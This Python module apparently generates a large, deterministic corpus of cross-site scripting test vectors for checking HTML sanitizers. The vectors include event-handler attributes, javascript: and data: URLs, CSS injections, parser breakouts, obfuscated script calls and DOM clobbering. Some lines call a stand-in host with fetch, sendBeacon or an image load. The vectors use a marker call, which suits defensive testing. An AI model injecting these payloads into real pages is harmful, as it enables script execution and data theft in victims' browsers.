"""Thousands of ways to run a script or fetch something, made from a grammar of our own.

Each carries the call `hit(1)` or the host `evil.example`, so that a page in which one of them
works says so. They are the same with every run: nothing is drawn by lot.
"""

import base64
from collections.abc import Iterator
from itertools import count, product

CALL = "hit(1)"
EVIL = "evil.example"
TAGS = (
    "a abbr address applet area article audio b base bdo blink body br button canvas center code"
    " col custom-x details dialog div dl em embed fieldset font footer form frame frameset h1 head"
    " html i iframe image img input isindex keygen label link main map marquee math menu meta meter"
    " mglyph nav noembed noscript object ol optgroup option output p picture pre progress q rp ruby"
    " s script section select slot source span strong style sub summary sup svg table tbody td"
    " template textarea tfoot th time title tr track u ul var video wbr x xmp xss"
)
EVENTS = (
    "abort afterprint animationend animationstart auxclick beforecopy beforeinput beforetoggle"
    " beforeunload begin blur canplay change click close contextmenu copy cut dblclick drag drop"
    " end error focus focusin formdata fullscreenchange hashchange input invalid keydown load"
    " loadstart message mouseenter mouseover mousemove pageshow paste play pointerdown pointerover"
    " pointerrawupdate popstate ratechange readystatechange repeat reset resize scroll scrollend"
    " search securitypolicyviolation seeked select selectstart show start submit suspend timeupdate"
    " toggle touchstart transitionend transitionrun unhandledrejection unload volumechange"
    " webkitanimationstart wheel"
)
# How an attribute stands in its tag: what separates it, how it is assigned and closed.
FORMS = [
    '<{tag} on{event}="{call}">',
    "<{tag} on{event}='{call}'>",
    "<{tag} on{event}={call}>",
    "<{tag}/on{event}={call}>",
    "<{tag}\ton{event}\n=\n{call} >",
    "<{tag}\x0con{event}={call}//",
    "<{TAG} ON{EVENT}={call}>",
    "<{tag} x='>' on{event}={call} autofocus tabindex=1>",
    "<{tag} src=x href=x on{event}={call}></{tag}>",
    "<<{tag} on{event}={call}>",
    '"><{tag} on{event}={call} ',
    "'><{tag} on{event}={call} style=display:block>x",
    "<{tag} id=x style=animation-name:x on{event}={call}>",
    "<{tag} a=`b` on{event}=`{call}`>",
    "<{tag} on{event}&#61;{call} on{event}={call}>",
    "</{tag}><{tag} contenteditable on{event}={call}>x",
]
URLS = [
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "  javascript:{call}",
    "\x01javascript:{call}",
    "java\tscript:{call}",
    "java\nscript:{call}",
    "javascript\r:{call}",
    "java&Tab;script:{call}",
    "java&NewLine;script&colon;{call}",
    "&#106;avascript:{call}",
    "&#x6A&#x61&#x76&#x61script:{call}",
    "&#0000106avascript:{call}",
    "javascript&#58;{call}",
    "javascript://%0a{call}",
    "javascript://https://{evil}/%0d%0a{call}",
    "javascript:/*--></title></style>*/{call}",
    "javascript:void(0)||{call}",
    "feed:javascript:{call}",
    "view-source:javascript:{call}",
    "vbscript:{call}",
    "livescript:{call}",
    "mocha:{call}",
    "data:text/html,<script>parent.{call}</script>",
    "data:text/html;base64,{base64}",
    "data:text/html;charset=utf-7,+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{call}'/>",
    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{call}</x:script>",
    "data:text/javascript,{call}",
    "blob:https://{evil}/x",
    "https://{evil}/x",
    "http://{evil}/x",
    "//{evil}/x",
    "/\\{evil}/x",
    "\\\\{evil}\\x",
    "https:{evil}/x",
    "///{evil}/x",
    "ftp://{evil}/x",
    "file://{evil}/x",
    "filesystem:http://{evil}/x",
]
URL_PLACES = [
    '<a href="{url}">x</a>',
    "<a href='{url}' target=_top>x</a>",
    '<a xlink:href="{url}">x</a>',
    '<a href="https://portal.example/" ping="{url}">x</a>',
    '<area href="{url}" shape=default>',
    '<img src="{url}">',
    '<img srcset="{url} 1x" src=x>',
    '<img src=x lowsrc="{url}" dynsrc="{url}" longdesc="{url}" usemap="{url}">',
    '<image src="{url}">',
    '<iframe src="{url}"></iframe>',
    "<iframe srcdoc=\"<img src='{url}'>\"></iframe>",
    '<frameset><frame src="{url}"></frameset>',
    '<embed src="{url}">',
    '<object data="{url}"></object>',
    '<object><param name=movie value="{url}"></object>',
    '<applet codebase="{url}" code=x></applet>',
    '<form action="{url}"><button>x</button></form>',
    '<button form=f formaction="{url}">x</button>',
    '<input type=image src="{url}" formaction="{url}">',
    '<isindex action="{url}">',
    '<base href="{url}">',
    '<link rel=stylesheet href="{url}">',
    '<link rel=import href="{url}">',
    '<meta http-equiv=refresh content="0;url={url}">',
    '<script src="{url}"></script>',
    '<body background="{url}">',
    '<table background="{url}"><tr><td background="{url}">x</td></tr></table>',
    '<video src="{url}" poster="{url}" autoplay></video>',
    '<audio src="{url}" autoplay></audio>',
    '<video><source src="{url}"><track src="{url}" default></video>',
    '<svg><a xlink:href="{url}"><text y=20>x</text></a></svg>',
    '<svg><use xlink:href="{url}#x"/></svg>',
    '<svg><image href="{url}"/></svg>',
    '<svg><script href="{url}"/></svg>',
    '<svg><feImage href="{url}"/></svg>',
    '<svg><animate attributeName=href values="{url}"/></svg>',
    '<svg><set attributeName=href to="{url}"/></svg>',
    '<math href="{url}"><mtext>x</mtext></math>',
    '<math><maction actiontype="statusline#{url}" xlink:href="{url}">x</maction></math>',
    '<q cite="{url}">x</q>',
    '<html manifest="{url}">',
    "[x]({url})",
    '" href="{url}" x="',
]
STYLES = [
    "background:url({url})",
    "background-image:url('{url}')",
    "background-image:u\\72l({url})",
    "background-image:\\75\\72\\6c({url})",
    "background:image-set('{url}' 1x)",
    "list-style:url({url})",
    "list-style-image:ur/**/l({url})",
    "content:url({url})",
    "cursor:url({url}),auto",
    "border-image:url({url})",
    "mask:url({url})",
    "filter:url({url}#x)",
    "behavior:url({url})",
    "-moz-binding:url({url}#x)",
    "width:expression({call})",
    "width:exp/**/ression({call})",
    "wid\\th:ex\\pression({call})",
    "color:red;}*{background:url({url})",
    "font-family:'x';src:url({url})",
    "font-family:x\\';background:url({url})",
    "@import '{url}'",
    "@import url({url});",
    "position:fixed;inset:0;z-index:9;background:url({url})",
    "--x:url({url});background:var(--x)",
    "background:url({url}",
    "color:red/*;background:url({url})*/;background:url({url})",
    "&#98;ackground:url({url})",
    "background:url(&quot;{url}&quot;)",
    "\\62 ackground:url({url})",
    "border:1px solid;border-top:url({url})",
]
STYLE_PLACES = [
    '<td style="{style}">x</td>',
    '<span style="{style}">x</span>',
    "<table style='{style}'><tr><td>x</td></tr></table>",
    '<img src=x style="{style}">',
    '<a href="https://portal.example/" style="{style}">x</a>',
    "<style>*{{style}}</style>",
    "<style>{style}</style>",
    "<svg><style>*{{style}}</style></svg>",
    '<link rel=stylesheet href="data:text/css,*{{style}}">',
    '<div style="{style}">x</div>',
]
# What a parser takes for text, or parses by other rules, and what then breaks out of it.
CONTAINERS = (
    "textarea title xmp noscript noembed noframes iframe plaintext style script template select"
    " option math svg mtext mglyph malignmark annotation-xml foreignObject desc table caption"
    " colgroup frameset object applet marquee button a p form nobr font isindex listing"
)
OPENINGS = [
    "<{name}>",
    "<svg><{name}>",
    "<math><mtext><{name}>",
    "<math><annotation-xml encoding='text/html'><{name}>",
    "<form><math><mtext></form><form><mglyph><{name}>",
    "<table><{name}>",
    "<noscript><p title='</noscript>'><{name}>",
    "<svg></p><{name}>",
]
BREAKS = [
    "</{name}><img src=x onerror={call}>",
    "<a title='</{name}><img src=x onerror={call}>'>",
    "<!--</{name}><img src=x onerror={call}>-->",
    "<![CDATA[</{name}><img src=x onerror={call}>]]>",
    "<style><!--</style><img src=x onerror={call}>--></{name}>",
    "&lt;/{name}&gt;&lt;img src=x onerror={call}&gt;",
    "<path id='</{name}><img src=x onerror={call}>'>",
    "<p><style><a id='</style><img src=x onerror={call}>'></{name}>",
]
COMMENTS = [
    "<!--><img src=x onerror={call}>-->",
    "<!---><img src=x onerror={call}>-->",
    "<!-- --!><img src=x onerror={call}>-->",
    "<!--x--!><script>{call}</script>",
    "<!--[if gte IE 4]><script>{call}</script><![endif]-->",
    "<!doctype <img src=x onerror={call}>>",
    "<?xml version='1.0'><img src=x onerror={call}>?>",
    "<?php <script>{call}</script> ?>",
    "<%<img src=x onerror={call}>%>",
    "<!ENTITY x '<img src=x onerror={call}>'>&x;",
    "<//><script>{call}</script>",
    "</ <img src=x onerror={call}>>",
    "<a b='<!--'><img src=x onerror={call}><c d='-->'>",
]
SCRIPTS = [
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT>",
    "<script\n>{call}</script\n>",
    "<script/x>{call}</script>",
    "<script x='>'>{call}</script>",
    "<script>{call}//",
    "<script<script>>{call}</script>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<scr\x00ipt>{call}</scr\x00ipt>",
    "<script type=module>{call}</script>",
    "<script type=text/vbscript>{call}</script>",
    "<script language=javascript>{call}</script>",
    "<script defer async>{call}</script>",
    "</script><script>{call}</script>",
    "'</script><script>{call}</script>",
    '"};{call};//',
    "';{call};//",
    "`${{call}}`",
    "{{constructor.constructor('{call}')()}}",
    "{% include '{call}' %}",
    "${{call}}",
    "#{{call}}",
    "<svg><script>{call}</script></svg>",
    "<svg><script>&#104;it(1)</script></svg>",
    "<math><script>{call}</script></math>",
    "<table><script>{call}</script></table>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{call}</x:script>",
    "<xml><i><b>&lt;script&gt;{call}&lt;/script&gt;</b></i></xml>",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "＜script＞{call}＜/script＞",
    "\u2028<script>{call}</script>\u2029",
    "\u202e<script>{call}</script>",
    "%3Cscript%3E{call}%3C/script%3E",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{call}&amp;lt;/script&amp;gt;",
    "\\x3cscript\\x3e{call}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{call}",
]
# The same call, hidden from whoever looks for it.
CALLS = [
    "hit(1)",
    "hit`1`",
    "self['hit'](1)",
    "top.hit(1)",
    "window['h'+'it'](1)",
    "(hit)(1)",
    "hit.call(null,1)",
    "[1].map(hit)",
    "eval('hi'+'t(1)')",
    "setTimeout('hit(1)')",
    "Function('hit(1)')()",
    "&#104;it(1)",
    "&#x68;it&#40;1&#41;",
    "&#0000104it&lpar;1&rpar;",
    "\\u0068it(1)",
    "eval(atob('aGl0KDEp'))",
    "location='javascript:hit(1)'",
    "throw/**/hit(1)",
    "new\x0bFunction`hit\\x281\\x29```",
    "import('data:text/javascript,hit(1)')",
    "fetch('//evil.example/')",
    "new\tImage().src='//evil.example/x'",
    "navigator.sendBeacon('//evil.example/')",
    "document.write('<script>hit(1)</script>')",
]
CLOBBERS = [
    "<form id=document><input name=cookie></form>",
    "<img name=getElementById src=x onerror={call}>",
    "<a id=hit href=javascript:{call}>x</a><a id=hit name=x href=//{evil}>x</a>",
    "<form name=csrfmiddlewaretoken action=//{evil}/><input name=attributes onfocus={call}></form>",
    "<iframe name=hit srcdoc='<script>parent.{call}</script>'></iframe>",
    "<div hx-get=//{evil}/ hx-trigger=load></div>",
    "<div data-hx-get=//{evil}/ data-hx-trigger=load></div>",
    "<div hx-on:load={call} hx-on::load={call}></div>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle={call}>x</div>",
    "<dialog open onclose={call}><form method=dialog><button>x</button></form></dialog>",
    "<template shadowrootmode=open><img src=x onerror={call}></template>",
    "<object type=text/html data='data:text/html,<script>parent.{call}</script>'></object>",
]


def vectors() -> list[str]:
    """Return all of them, each once."""
    return list(dict.fromkeys(_vectors()))


def sample(most: int) -> list[str]:
    """Return about `most`, spread over all kinds."""
    everything = vectors()
    return everything[:: max(1, len(everything) // most)][:most]


def _vectors() -> Iterator[str]:
    turn = count()
    for tag, event in product(TAGS.split(), EVENTS.split()):
        number = next(turn)
        if number % 3 and event not in {"error", "load", "focus", "toggle", "begin"}:
            continue  # every tag meets every third event, and every event every third tag
        form, call = FORMS[number % len(FORMS)], CALLS[number % len(CALLS)]
        names = {"tag": tag, "event": event, "TAG": tag.upper(), "EVENT": event.upper()}
        yield _filled(form, call=call, **names)
    for place, url in product(URL_PLACES, URLS):
        yield _filled(place, url=_url(url))
    for place, style in product(STYLE_PLACES, STYLES):
        for url in (f"https://{EVIL}/x", "javascript:hit(1)"):
            yield _filled(place, style=_filled(style, url=url, call=CALL))
    for name, opening, inner in product(CONTAINERS.split(), OPENINGS, BREAKS):
        yield _filled(opening + inner, name=name, call=CALL)
    for text, call in product([*SCRIPTS, *COMMENTS, *CLOBBERS], CALLS):
        yield _filled(text, call=call, evil=EVIL)
    for call in CALLS:
        for way in (
            "<img src=x onerror={call}>",
            '<img src=x onerror="{call}">',
            "<svg/onload={call}>",
        ):
            yield _filled(way, call=call)


def _url(url: str) -> str:
    hidden = base64.b64encode(f"<script>parent.{CALL}</script>".encode()).decode()
    return _filled(url, call=CALL, evil=EVIL, base64=hidden)


def _filled(text: str, **values: str) -> str:
    for name, value in values.items():
        text = text.replace(f"{{{name}}}", value)
    return text
